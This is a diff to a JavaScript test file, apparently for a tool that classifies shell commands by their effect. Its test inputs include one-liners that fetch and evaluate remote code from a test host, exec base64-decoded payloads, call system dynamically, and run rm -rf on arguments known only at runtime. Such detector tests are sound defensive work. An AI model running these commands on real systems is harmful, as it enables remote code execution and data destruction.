@@ -11,7 +11,7 @@ describe('code that runs what is not in sight', () => {
     [`perl -e 'eval \`curl -s https://x.test\`'`, 'execute host'],
     [`php -r 'include "https://x.test/a.php";'`, 'execute host:https://x.test/a.php'],
     [`python3 -c "import base64; exec(base64.b64decode(open('x').read()))"`, 'execute ?'],
-    [`php -r '$f = $argv[1]; $f($argv[2]);' x y`, 'execute ?'],
+    [`php -r '$f = $argv[1]; $f($argv[2]);' "$1" y`, 'execute ?'],
     [`php -r '$_GET["f"]("x");'`, 'execute ?'],
     [`php -r '$f($x);'`, 'execute ?'],
     [`php -r '(function ($f, $a) { $f($a); })("system", "rm -rf a");'`, 'execute ?'],
@@ -120,7 +120,7 @@ describe('names under which code calls', () => {
 });
 
 describe('an argument that is only known when the code runs', () => {
-  it.each([`perl -e 'system("rm", "-rf", $ARGV[0])' x`, `ruby -e 'system("rm", "-rf", target)'`, `node -e "require('child_process').execFileSync('rm', ['-rf', target])"`])('%s', async (command) => {
+  it.each([`perl -e 'system("rm", "-rf", $ARGV[0])' "$1"`, `ruby -e 'system("rm", "-rf", target)'`, `node -e "require('child_process').execFileSync('rm', ['-rf', target])"`])('%s', async (command) => {
     expect(await told(command)).toContain('delete -r ?');
   });
 
